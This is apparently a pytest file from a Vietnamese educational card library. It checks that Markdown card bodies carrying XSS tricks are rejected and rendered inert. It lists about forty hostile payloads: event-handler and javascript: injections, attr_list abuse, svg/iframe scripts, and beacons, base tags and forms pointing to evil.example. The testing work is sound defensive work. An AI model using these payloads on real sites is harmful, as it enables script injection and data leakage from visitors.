"""Script in a card body: every trick is refused by `check`, and what would be published is inert.

The bodies below are the red team's findings (code-span, comment and fence tricks, attr_list,
reference links, beacons, style/base/meta, svg/math, md_in_html) and a few more of each kind.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import HAS_CHROMIUM, VALID_CARD, check_folder
from kho_stem.cards.body_html import BodyRenderer, HtmlPolicy

EVIL = "https://evil.example"
HOSTILE_BODIES = {
    "escaped-backticks": "\\`<img src=x onerror=alert(1)>\\`",
    "backticks-in-div": "<div>`</div><img src=x onerror=alert(1)>`</div>",
    "backticks-in-p": "<p>`<img src=x onerror=alert(1)>`</p>",
    "tilde-fence-two-words": "~~~ html evil\n<img src=x onerror=alert(1)>\n~~~",
    "fence-indented-one-space": " ```\n<img src=x onerror=alert(1)>\n ```",
    "unbalanced-backticks": "`` `<img src=x onerror=alert(1)>`",
    "short-comment": "<!--> <img src=x onerror=alert(1)> -->",
    "backtick-in-attribute": '<img alt="`" src=x onerror="alert(1)">`',
    "meta-refresh": f'\\`<meta http-equiv="refresh" content="0;url={EVIL}">\\`',
    "attr-list-autofocus": '[x](#){: autofocus tabindex="1" onfocus="alert(1)" }',
    "attr-list-paragraph": 'Một đoạn văn\n{: onmouseover="alert(1)" }',
    "attr-list-heading": '## Tiêu đề { onclick="alert(1)" }',
    "attr-list-style": '[x](#){: style="background:url(javascript:alert(1))" }',
    "attr-list-class": "[x](#){: .md-search__input }",
    "attr-list-id": "## Tìm { #__search }",
    "javascript-link": "[bấm](javascript:alert(1))",
    "javascript-link-tab": "[bấm](java\tscript:alert(1))",
    "javascript-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "reference-link": "[x][r]\n\n[r]: javascript:alert(1)",
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "srcset-beacon": f'<img src="anh.png" alt="a" srcset="{EVIL}/x.png 1x">',
    "ping-beacon": f'<a href="#" ping="{EVIL}/">x</a>',
    "external-image": f"![ảnh]({EVIL}/x.png)",
    "protocol-relative-image": '<img src="//evil.example/x.png" alt="a">',
    "video-poster": f'<video poster="{EVIL}/x.png"></video>',
    "base": f'<base href="{EVIL}/">',
    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "style-tag": f"<style>body{{background:url({EVIL}/x)}}</style>",
    "style-attribute": f'<p style="background:url({EVIL}/x)">x</p>',
    "script": "<script>alert(1)</script>",
    "svg-onload": '<svg onload="alert(1)"><circle r="5"/></svg>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "math-href": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "md-in-html": '<div markdown="1">\n[x](javascript:alert(1))\n</div>',
    "md-in-html-handler": '<div markdown="1" onclick="alert(1)">\nchữ\n</div>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object>',
    "form": f'<form action="{EVIL}"><button>Gửi</button></form>',
    "details-ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "unclosed-img": "<img src=x onerror=alert(1)//",
    "uppercase-handler": '<IMG SRC=x ONERROR="alert(1)">',
}


# Python-Markdown reads these as text: the page shows them, escaped, and nothing runs.
SHOWN_AS_TEXT = {
    "backtick-in-attribute": "&lt;img alt=",
    "fence-indented-one-space": "<code>&lt;img src=x onerror=alert(1)&gt;</code>",
    "unclosed-img": "&lt;img src=x onerror=alert(1)//",
}


def _card(body: str) -> str:
    return VALID_CARD + "\n" + body + "\n"


@pytest.fixture(scope="module")
def renderer(taxonomy) -> BodyRenderer:
    return BodyRenderer(HtmlPolicy.from_taxonomy(taxonomy))


class _Inspector(HTMLParser):
    """Collects everything in published HTML that could run code or reach outside."""

    def __init__(self, policy: HtmlPolicy):
        super().__init__(convert_charrefs=True)
        self.policy = policy
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.policy.tags:
            self.findings.append(f"tag {tag}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("style", "srcset", "ping", "formaction", "xlink:href", "poster"):
                self.findings.append(f"{tag}[{name}]")
            if name == "href" and re.match(r"^\s*[a-z][a-z0-9+.\-]*:", value, re.I) and not re.match(
                    r"^(https?|mailto|tel):", value, re.I):
                self.findings.append(f"href {value}")
            if name == "src" and re.match(r"^\s*([a-z][a-z0-9+.\-]*:|//|/)", value, re.I):
                self.findings.append(f"src {value}")

    handle_startendtag = handle_starttag


@pytest.mark.parametrize("name", sorted(HOSTILE_BODIES))
def test_hostile_body_is_refused_by_check(tmp_path: Path, taxonomy, name: str):
    (tmp_path / "x.md").write_text(_card(HOSTILE_BODIES[name]), encoding="utf-8")
    problems = check_folder(tmp_path, taxonomy)
    if name in SHOWN_AS_TEXT:
        assert problems == []
        return
    assert problems, f"{name} passed check"
    body_line = VALID_CARD.count("\n") + 2
    for problem in problems:
        line = int(problem.split(":")[1])
        assert line >= body_line, problem  # located in the body, not on the front matter


@pytest.mark.parametrize("name", sorted(HOSTILE_BODIES))
def test_what_would_be_published_is_inert(renderer: BodyRenderer, name: str):
    rendered = renderer.render(HOSTILE_BODIES[name], 1)
    inspector = _Inspector(renderer.policy)
    inspector.feed(rendered.html)
    assert inspector.findings == []
    if name in SHOWN_AS_TEXT:
        assert SHOWN_AS_TEXT[name] in rendered.html


def test_the_report_names_what_is_removed_on_its_line(tmp_path: Path, taxonomy):
    body = ("## Chuẩn bị\n\nChữ thường.\n\n[x](#){: autofocus onfocus=\"alert(1)\" }\n\n[y][r]\n\n"
            "[r]: javascript:alert(2)\n")
    (tmp_path / "x.md").write_text(_card(body), encoding="utf-8")
    first = VALID_CARD.count("\n") + 2
    assert check_folder(tmp_path, taxonomy) == [
        f"x.md:{first + 4}: thẻ <a> có thuộc tính autofocus không được phép (mã lệnh trong trang bị chặn); "
        "xoá thuộc tính này",
        f"x.md:{first + 4}: thẻ <a> có thuộc tính onfocus không được phép (mã lệnh trong trang bị chặn); "
        "xoá thuộc tính này",
        f'x.md:{first + 8}: liên kết "javascript:alert(2)" không được phép; chỉ dùng http://, https://, mailto: '
        "hoặc đường dẫn trong thư viện",
    ]


def test_safe_markdown_is_published_unchanged(renderer: BodyRenderer):
    body = (
        "## Cách tiến hành { #cach-lam }\n\n1. Cô *hỏi* trẻ: **vì sao?**\n2. Trẻ [xem thêm](https://moet.gov.vn).\n\n"
        "!!! warning \"Chú ý\"\n    Nước ấm, không nóng.\n\n| Vật | Nổi |\n|:--|--:|\n| Lá | Có |\n\n"
        "```\n<b>mã</b>\n```\n"
    )
    rendered = renderer.render(body, 1)
    assert rendered.problems == ()
    assert '<h2 id="cach-lam">Cách tiến hành</h2>' in rendered.html
    assert '<div class="admonition warning">' in rendered.html
    assert '<td align="left">Lá</td>' in rendered.html
    assert "&lt;b&gt;mã&lt;/b&gt;" in rendered.html
    assert '<a href="https://moet.gov.vn">xem thêm</a>' in rendered.html


def test_deep_nesting_past_the_bounds_is_a_located_problem_not_a_crash(renderer: BodyRenderer):
    # card_bounds refuses this first (limits.yml); the renderer still never crashes on it.
    body = '<div markdown="1">\n' * 400 + "x\n" + "</div>\n" * 400
    rendered = renderer.render(body, 30)
    assert [p.code for p in rendered.problems] == ["body_render_failed"]
    assert rendered.problems[0].line == 30


needs_chromium = pytest.mark.skipif(not HAS_CHROMIUM, reason="Debian's chromium is not installed")


@needs_chromium
@pytest.mark.browser
def test_published_bodies_run_nothing_and_request_nothing_from_file_urls(browser, renderer, tmp_path: Path):
    """Every hostile body, as it would be published, opened from file:// with the network refused."""
    (tmp_path / "anh.png").write_bytes(b"")
    context = browser.new_context()
    outside: list[str] = []

    def refuse(route):
        if not route.request.url.startswith("file://"):
            outside.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", refuse)
    page = context.new_page()
    ran: list[str] = []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    for name, body in sorted(HOSTILE_BODIES.items()):
        file = tmp_path / f"{name}.html"
        file.write_text(f'<!doctype html><meta charset="utf-8"><body>{renderer.render(body, 1).html}</body>',
                        encoding="utf-8")
        page.goto(file.as_uri())
        page.wait_for_load_state("load")
        for element in page.query_selector_all("body *"):
            if element.is_visible():
                element.hover()
                element.focus()
                element.click(no_wait_after=True, trial=False, timeout=2000)
            if page.url != file.as_uri():
                page.goto(file.as_uri())
                break
        page.wait_for_timeout(50)
        assert ran == [], name
        assert page.url.startswith("file://"), name
    context.close()
    assert outside == []


def test_the_guide_lists_exactly_the_allowed_html(taxonomy, renderer: BodyRenderer):
    from conftest import ROOT
    from kho_stem.outputs.guide_tables import HTML_MARKER, html_table

    table = html_table(taxonomy)
    listed = set(re.findall(r"^\| `<([a-z0-9]+)>` \|", table, re.MULTILINE))
    assert listed == set(renderer.policy.tags)
    assert HTML_MARKER in (ROOT / "content" / "pages" / "dong-gop.md").read_text(encoding="utf-8")
